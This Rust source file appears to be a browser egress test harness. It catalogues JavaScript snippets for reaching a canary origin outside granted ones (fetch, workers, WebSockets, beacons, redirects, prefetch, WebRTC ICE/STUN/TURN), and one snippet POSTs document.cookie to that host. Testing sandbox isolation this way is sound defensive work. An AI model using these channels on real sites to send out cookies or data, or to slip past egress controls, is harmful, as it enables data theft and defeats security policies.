//! The ways. `out` is the origin of a canary, and each goes to the path that it is
//! named by.

/// A way out of the granted origins.
pub(crate) struct Way {
    pub(crate) name: &'static str,
    /// Headers of its document; `OUT` is the canary's origin.
    pub(crate) headers: &'static str,
    pub(crate) script: &'static str,
    /// Not so where Chromium itself, or a flag that it is started with, does not go
    /// that way at all.
    pub(crate) reaches_if_granted: bool,
}

const fn way(name: &'static str, script: &'static str) -> Way {
    Way { name, headers: "", script, reaches_if_granted: true }
}

const fn with_headers(name: &'static str, headers: &'static str, script: &'static str) -> Way {
    Way { name, headers, script, reaches_if_granted: true }
}

const fn shut(way: Way) -> Way {
    Way { reaches_if_granted: false, ..way }
}

/// Those that run in a frame each.
pub(crate) const STAYING: &[Way] = &[
    way("fetch", "fetch(out + '/fetch', { mode: 'no-cors' })"),
    way("fetch-body", "fetch(out + '/fetch-body', { mode: 'no-cors', method: 'POST', body: document.cookie })"),
    way("xhr", "const asked = new XMLHttpRequest(); asked.open('GET', out + '/xhr'); asked.send()"),
    way("image", "new Image().src = out + '/image'"),
    way("svg-image", "document.body.innerHTML = `<svg><image href='${out}/svg-image'/></svg>`"),
    way("script", "add('script', { src: out + '/script' })"),
    way("module", "add('script', { type: 'module', textContent: `import '${out}/module'` })"),
    way("import", "import(out + '/import').catch(() => 0)"),
    way("stylesheet", "add('link', { rel: 'stylesheet', href: out + '/stylesheet' })"),
    way("css-import", "add('style', { textContent: `@import '${out}/css-import'` })"),
    way("css-url", "document.body.style.backgroundImage = `url(${out}/css-url)`"),
    way(
        "font",
        "add('style', { textContent: `@font-face { font-family: f; src: url(${out}/font) } p { font-family: f }` }); add('p', { textContent: 'x' })",
    ),
    way("iframe", "show(out + '/iframe')"),
    way("object", "add('object', { data: out + '/object', type: 'text/html' })"),
    way("embed", "add('embed', { src: out + '/embed', type: 'text/html' })"),
    way("video", "add('video', { src: out + '/video', preload: 'auto' })"),
    way("audio", "new Audio(out + '/audio').load()"),
    way("poster", "add('video', { poster: out + '/poster' })"),
    way(
        "track",
        "const video = add('video', {}); const track = document.createElement('track'); \
         video.crossOrigin = 'anonymous'; track.src = out + '/track'; video.append(track); track.track.mode = 'showing'",
    ),
    way("websocket", "new WebSocket(out + '/websocket')"),
    way("worker-websocket", "worker(`new WebSocket(out + '/worker-websocket')`)"),
    way("worker-fetch", "worker(`fetch(out + '/worker-fetch', { mode: 'no-cors' })`)"),
    way("worker-import", "worker(`importScripts(out + '/worker-import')`)"),
    way(
        "worker-of-worker",
        "worker(`const source = 'fetch(\"' + out + '/worker-of-worker\", { mode: \"no-cors\" })'; \
         new Worker(URL.createObjectURL(new Blob([source])))`)",
    ),
    way(
        "shared-worker",
        "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${out}/shared-worker', { mode: 'no-cors' })`])))",
    ),
    way(
        "service-worker",
        "navigator.serviceWorker.register(here('/service-worker/service-worker'), { scope: '/service-worker/scope' }) \
         .then(registered => (registered.installing ?? registered.waiting ?? registered.active).postMessage(0))",
    ),
    way("redirect", "fetch(here('/redirect/redirect'), { mode: 'no-cors' })"),
    way("redirect-image", "new Image().src = here('/redirect/redirect-image')"),
    way("redirect-frame", "show(here('/redirect/redirect-frame'))"),
    way("meta-refresh", "add('iframe', { srcdoc: `<meta http-equiv=refresh content='0;url=${out}/meta-refresh'>` })"),
    with_headers("refresh-header", "Refresh: 0;url=OUT/refresh-header\r\n", ""),
    way("frame-location", "location.href = out + '/frame-location'"),
    way("form-get", "add('form', { action: out + '/form-get' }).submit()"),
    way("form-post", "const form = add('form', { action: out + '/form-post', method: 'post' }); form.submit()"),
    way("data-document", "show(`data:text/html,<script>fetch('${out}/data-document',{mode:'no-cors'})</scr` + `ipt>`)"),
    way(
        "blob-document",
        "show(URL.createObjectURL(new Blob([`<script>fetch('${out}/blob-document',{mode:'no-cors'})</scr` + `ipt>`], { type: 'text/html' })))",
    ),
    way("srcdoc-document", "add('iframe', { srcdoc: `<img src='${out}/srcdoc-document'>` })"),
    way(
        "sandboxed-document",
        "add('iframe', { sandbox: 'allow-scripts', srcdoc: `<script>new WebSocket('${out}/sandboxed-document')</scr` + `ipt>` })",
    ),
    way("beacon", "navigator.sendBeacon(out + '/beacon', 'x')"),
    way(
        "beacon-on-unload",
        "const frame = add('iframe', { srcdoc: `<script>addEventListener('pagehide', () => \
         navigator.sendBeacon('${out}/beacon-on-unload', 'x'))</scr` + `ipt>` }); frame.onload = () => frame.remove()",
    ),
    way(
        "keepalive",
        "const frame = add('iframe', { srcdoc: `<script>fetch('${out}/keepalive', { keepalive: true, mode: 'no-cors' })</scr` + `ipt>` }); \
         frame.onload = () => frame.remove()",
    ),
    way("event-source", "new EventSource(out + '/event-source')"),
    with_headers(
        "report-uri",
        "Content-Security-Policy: img-src 'none'; report-uri OUT/report-uri\r\n",
        "new Image().src = '/x.png'",
    ),
    shut(with_headers(
        "report-to",
        "Reporting-Endpoints: out=\"OUT/report-to\"\r\nReport-To: {\"group\":\"out\",\"max_age\":9,\"endpoints\":[{\"url\":\"OUT/report-to\"}]}\r\n\
         NEL: {\"report_to\":\"out\",\"max_age\":9,\"success_fraction\":1}\r\nContent-Security-Policy: img-src 'none'; report-to out\r\n",
        "new Image().src = '/x.png'",
    )),
    way("ping", "const link = add('a', { href: '#x', ping: out + '/ping' }); link.click()"),
    way("prefetch", "add('link', { rel: 'prefetch', href: out + '/prefetch' })"),
    way("preload", "add('link', { rel: 'preload', as: 'image', href: out + '/preload' })"),
    way("module-preload", "add('link', { rel: 'modulepreload', href: out + '/module-preload' })"),
    with_headers("link-header", "Link: <OUT/link-header>; rel=preload; as=image\r\n", ""),
    shut(way(
        "preconnect",
        "add('link', { rel: 'preconnect', href: out }); add('link', { rel: 'dns-prefetch', href: out })",
    )),
    shut(way("manifest", "add('link', { rel: 'manifest', href: out + '/manifest' })")),
    shut(way("icon", "add('link', { rel: 'icon', href: out + '/icon' })")),
    shut(way("source-map", "add('script', { textContent: `0\\n//# sourceMappingURL=${out}/source-map` })")),
    shut(way("attribution", "add('img', { attributionSrc: out + '/attribution' })")),
    way("paint-worklet", "CSS.paintWorklet.addModule(out + '/paint-worklet').catch(() => 0)"),
    shut(way("xml-stylesheet", "show(here('/xml/xml-stylesheet'))")),
    way("download", "add('a', { href: out + '/download', download: 'x' }).click()"),
    shut(way("webtransport", "new WebTransport(out.replace('http:', 'https:') + '/webtransport')")),
    shut(way(
        "stun",
        "const peer = new RTCPeerConnection({ iceServers: [{ urls: out.replace('http://', 'stun:') }] }); \
         peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer))",
    )),
    shut(way(
        "turn",
        "const server = out.replace('http://', ''); const urls = [`turn:${server}?transport=udp`, `turn:${server}?transport=tcp`, \
         `turns:${server}?transport=tcp`]; const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'y' }] }); \
         peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer))",
    )),
    shut(way(
        "ice-candidate",
        "(async () => { const [one, two] = [new RTCPeerConnection(), new RTCPeerConnection()]; one.createDataChannel('x'); \
         await one.setLocalDescription(await one.createOffer()); await two.setRemoteDescription(one.localDescription); \
         await two.setLocalDescription(await two.createAnswer()); await one.setRemoteDescription(two.localDescription); \
         const [host, port] = out.replace('http://', '').split(':'); for (const kind of ['udp', 'tcp']) await one.addIceCandidate({ sdpMid: '0', \
         candidate: `candidate:1 1 ${kind} 2122260223 ${host} ${port} typ host${kind == 'tcp' ? ' tcptype passive' : ''}` }) })()",
    )),
];

/// Those that take the page itself elsewhere; they run in one of their own.
pub(crate) const LEAVING: &[Way] = &[
    way("top-location", "location.href = out + '/top-location'"),
    way("top-replace", "setTimeout(() => location.replace(out + '/top-replace'))"),
    way("top-redirect", "location.href = here('/redirect/top-redirect')"),
    way("top-form", "add('form', { action: out + '/top-form', method: 'post' }).submit()"),
    way("top-refresh", "location.href = here('/leave/top-refresh')"),
    way("open", "window.open(out + '/open')"),
    way("open-redirect", "window.open(here('/redirect/open-redirect'))"),
    way(
        "open-without-opener",
        "add('a', { href: out + '/open-without-opener', target: '_blank', rel: 'noopener' }).click()",
    ),
    shut(way(
        "speculation-prefetch",
        "add('script', { type: 'speculationrules', \
         textContent: JSON.stringify({ prefetch: [{ urls: [out + '/speculation-prefetch'], eagerness: 'immediate' }] }) })",
    )),
    shut(way(
        "speculation-prerender",
        "add('script', { type: 'speculationrules', \
         textContent: JSON.stringify({ prerender: [{ urls: [here('/redirect/speculation-prerender')], eagerness: 'immediate' }] }) })",
    )),
];
